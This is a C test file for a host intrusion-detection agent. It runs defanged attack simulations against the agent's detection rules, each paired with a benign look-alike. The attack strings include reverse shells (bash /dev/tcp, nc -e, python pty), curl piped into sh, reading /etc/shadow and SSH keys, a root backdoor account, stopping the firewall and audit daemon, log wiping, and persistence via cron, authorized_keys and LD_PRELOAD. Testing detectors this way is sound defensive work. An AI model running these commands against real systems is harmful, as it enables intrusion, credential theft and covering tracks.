/*
 * test_scenarios.c - hinomi's own rules (rules/) against attack
 * simulations on this host, with the real agent: each scenario runs its
 * attack and a benign look-alike, each in a scratch directory of its own
 * (HOME points there too), and the rule must raise an alert for the
 * attack and none for the benign run.
 *
 * Safety: everything happens in the scratch directories, except what a
 * scenario restores at once (the cron file: created empty and removed,
 * /etc/cron.d made and removed if it was not there).  Tools that would
 * change the host (systemctl, insmod, useradd, netcat, python) are copies
 * of /bin/true under the tool's name: the agent sees the same exec.
 * Network: 127.0.0.1 only.
 *
 * Alerts are told apart by a token in the scenario's paths (its scratch
 * directory's name): the alert's first event must mention it.
 */
#include <errno.h>
#include <limits.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cmocka.h>

#include "event/event.h"
#include "lib/harness.h"

static struct th_agent a;
static struct hn_store *s;
static char dir[256];

static int teardown(void **state)
{
	(void)state;
	th_group_reset(&a, &s, dir);
	return 0;
}

/* The scripts run as `sh -c 'cd "$D" && SCRIPT'` with D and HOME the
 * scenario's scratch directory and T its token ($D's name). */
#define FAKE(tool) "cp /bin/true \"$D/" tool "\" && "
static const struct scenario {
	const char *rule_id;
	const char *name;
	const char *attack;
	const char *benign;
} scenarios[] = {
	{ "f6649170-1793-4e8e-99d1-03bcdce00c7c", "bash /dev/tcp reverse shell",
	  "bash -c 'echo hi > /dev/tcp/127.0.0.1/9' 2>/dev/null; true",
	  "bash -c 'echo hi > /dev/null'" },
	{ "7869ccf1-8664-4f00-969e-24a16fdba0aa", "download piped into a shell",
	  "sh -c 'curl -fsS http://127.0.0.1:9/x.sh | sh' 2>/dev/null; true",
	  "sh -c 'curl --version | head -n 1' >/dev/null 2>&1; true" },
	{ "8b533c81-1e25-41ab-ac90-007456ebf4b6", "run from /tmp",
	  FAKE("payload") "\"$D/payload\"",
	  "/bin/true" },
	{ "baae7a14-08c2-40ce-b2ac-2aab246d76d7", "run from a hidden directory",
	  "mkdir .hid && cp /bin/true .hid/run && \"$D/.hid/run\"",
	  "mkdir vis && cp /bin/true vis/run && \"$D/vis/run\"" },
	{ "34508c21-caee-4817-917a-dc306f774a79", "account created",
	  FAKE("useradd") "\"$D/useradd\" -o -u 0 -g 0 backdoor",
	  FAKE("id") "\"$D/id\" -u" },
	{ "7185ca32-3811-4728-a270-f51161c7ed8f", "setuid bit set",
	  "touch f && chmod u+s \"$D/f\" && chmod 4755 \"$D/f\"",
	  "touch f && chmod 755 \"$D/f\"" },
	{ "fdc973b9-f95b-4c76-9644-70d6432a5010", "/etc/shadow read",
	  "cat /etc/shadow > /dev/null",
	  "cat /etc/hostname > /dev/null" },
	{ "c05021fe-6862-4606-abd9-bdf75de0f57b", "history deleted",
	  "touch .bash_history && rm \"$D/.bash_history\"",
	  "touch notes && rm \"$D/notes\"" },
	{ "c65cb649-ecdd-4d68-b25f-e83434ebd0a6", "firewall stopped",
	  FAKE("systemctl") "\"$D/systemctl\" stop ufw.service",
	  FAKE("systemctl") "\"$D/systemctl\" status ufw.service" },
	{ "cad41218-cb4e-41a8-a14d-a2f594ba652c", "kernel module loaded",
	  FAKE("insmod") "\"$D/insmod\" \"$D/rootkit.ko\"",
	  FAKE("insmod") "\"$D/insmod\" --version" },
	{ "5ccaf623-9de1-4c52-adb3-ae5e72dc1091", "crypto miner",
	  "/bin/echo --donate-level=1 -o stratum+tcp://127.0.0.1:3333 > /dev/null",
	  "/bin/echo mining report > /dev/null" },
	{ "d2b256ac-b633-4b84-84f7-bf0ee8a43e32", "netcat serving a shell",
	  FAKE("nc") "\"$D/nc\" -e /bin/sh 127.0.0.1 9",
	  FAKE("nc") "\"$D/nc\" -z 127.0.0.1 9" },
	{ "2fe4364d-b94e-42c4-9dd1-b35a1b46a045", "python pty shell",
	  FAKE("python3") "\"$D/python3\" -c 'import pty; pty.spawn(\"/bin/sh\")'",
	  FAKE("python3") "\"$D/python3\" -c 'print(1)'" },
	{ "546977a7-78cc-440d-b5f8-fb7562ca345e", "cron job written",
	  "made=; [ -d /etc/cron.d ] || { mkdir /etc/cron.d && made=1; }; "
	  "printf '# hinomi test\\n' > \"/etc/cron.d/$T\"; rm -f \"/etc/cron.d/$T\"; "
	  "[ -z \"$made\" ] || rmdir /etc/cron.d",
	  "mkdir cron.d && printf '# x\\n' > \"$D/cron.d/$T\"" },
	{ "b84bc687-2618-4037-ad2e-69630571f9e1", "authorized_keys written",
	  "mkdir -p .ssh && echo 'ssh-ed25519 AAAAC3Nz test' >> \"$D/.ssh/authorized_keys\"",
	  "mkdir -p .ssh && echo 'host ssh-ed25519 AAAA' >> \"$D/.ssh/known_hosts\"" },
	{ "9f93b94e-92b0-4ae3-b7e7-102e40f32c23", ".bashrc written",
	  "echo 'alias ls=ls' >> \"$D/.bashrc\"",
	  "echo 'a note' >> \"$D/notes.txt\"" },
	{ "da26bc2d-7230-48c5-bef1-b2416c7c4837", "systemd user unit written",
	  "mkdir -p .config/systemd/user && printf '[Service]\\n' >"
	  " \"$D/.config/systemd/user/$T.service\"",
	  "mkdir -p notes && printf 'x' > \"$D/notes/$T.service\"" },
	{ "cb3f83ab-43ab-46db-86d5-47ebdbc4957d", "LD_PRELOAD on a command line",
	  "env LD_PRELOAD=\"$D/evil.so\" /bin/true",
	  "env LANG=C /bin/true" },
	{ "6b4d48e3-134a-406b-9811-70505417401a", "timestomping",
	  "touch -d '2001-01-01 00:00' \"$D/f\"",
	  "touch \"$D/f\"" },
	{ "6425839c-4872-4a4b-88f9-224230f1c193", "logs wiped",
	  FAKE("shred") "\"$D/shred\" -u /var/log/auth.log",
	  FAKE("shred") "\"$D/shred\" -u \"$D/notes.log\"" },
	{ "290bbd14-c7f3-4ab6-bc26-db4e86ff1233", "audit daemon stopped",
	  FAKE("systemctl") "\"$D/systemctl\" stop auditd",
	  FAKE("systemctl") "\"$D/systemctl\" status auditd" },
	{ "e9cf19ac-f60a-4ac3-be39-f0e17ab04259", "ssh private key read",
	  "mkdir -p .ssh && echo k > .ssh/id_rsa && cat \"$D/.ssh/id_rsa\"",
	  "mkdir -p .ssh && echo k > .ssh/id_rsa.pub && cat \"$D/.ssh/id_rsa.pub\"" },
};
#define NSCEN (sizeof(scenarios) / sizeof(scenarios[0]))

static int run_in(const char *d, const char *token, const char *script)
{
	char envd[400], envh[400], envt[128], cmd[2048];
	const char *argv[] = { "/usr/bin/env", envd, envh, envt, "/bin/sh", "-c", cmd, NULL };

	snprintf(envd, sizeof(envd), "D=%s", d);
	snprintf(envh, sizeof(envh), "HOME=%s", d);
	snprintf(envt, sizeof(envt), "T=%s", token);
	snprintf(cmd, sizeof(cmd), "cd \"$D\" && { %s; } >/dev/null 2>&1", script);
	return th_run(argv, 20);
}

struct find {
	const char *rule_id, *token;
	int n;
};

static int on_alert(const struct hn_alert *al, void *arg)
{
	struct find *f = arg;

	if (al->rule_id && !strcmp(al->rule_id, f->rule_id) && al->event_json &&
	    strstr(al->event_json, f->token))
		f->n++;
	return 0;
}

static int alerts_for(const char *rule_id, const char *token)
{
	struct find f = { rule_id, token, 0 };

	assert_int_equal(hn_store_alerts(s, 0, on_alert, &f), 0);
	return f.n;
}

static void our_rules_catch_their_attacks(void **state)
{
	char rules[PATH_MAX], tok[NSCEN][2][64], d[NSCEN][2][400];
	const char *extra[] = { "--rules", rules, NULL };
	int missed = 0;

	(void)state;
	if (geteuid() != 0)
		skip();
	if (!realpath("rules", rules))
		fail_msg("no rules/ folder (run from the repository's root)");
	assert_int_equal(th_scratch(dir, sizeof(dir), "scen"), 0);
	if (th_group_start(&a, &s, extra) < 0)
		fail_msg("the agent did not start");

	for (size_t i = 0; i < NSCEN; i++) {
		for (int b = 0; b < 2; b++) {
			snprintf(tok[i][b], sizeof(tok[i][b]), "hnscn%dx%zu%c", (int)getpid(), i,
				 b ? 'b' : 'a');
			size_t ld = strlen(dir), lt = strlen(tok[i][b]);
			assert_true(ld + lt + 2 <= sizeof(d[i][b]));
			memcpy(d[i][b], dir, ld);
			d[i][b][ld] = '/';
			memcpy(d[i][b] + ld + 1, tok[i][b], lt + 1);
			assert_int_equal(mkdir(d[i][b], 0700), 0);
		}
		/* exit statuses do not matter: what ran is what counts */
		run_in(d[i][0], tok[i][0], scenarios[i].attack);
		run_in(d[i][1], tok[i][1], scenarios[i].benign);
	}
	/* every attack raises its rule's alert */
	for (size_t i = 0; i < NSCEN; i++) {
		int n = 0;
		for (int k = 0; k < 100 && !(n = alerts_for(scenarios[i].rule_id, tok[i][0])); k++)
			th_sleep_ms(100);
		if (!n) {
			fprintf(stderr, "MISSED: %s (rule %s)\n", scenarios[i].name,
				scenarios[i].rule_id);
			missed++;
		}
	}
	assert_int_equal(missed, 0);
	/* and no benign run does (the attacks' alerts are in: so would they) */
	for (size_t i = 0; i < NSCEN; i++)
		if (alerts_for(scenarios[i].rule_id, tok[i][1])) {
			fprintf(stderr, "FALSE ALERT: %s (rule %s) on the benign run\n",
				scenarios[i].name, scenarios[i].rule_id);
			missed++;
		}
	assert_int_equal(missed, 0);
	fprintf(stderr, "%zu scenarios: every attack caught, no benign run alerted\n", NSCEN);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test_teardown(our_rules_catch_their_attacks, teardown),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
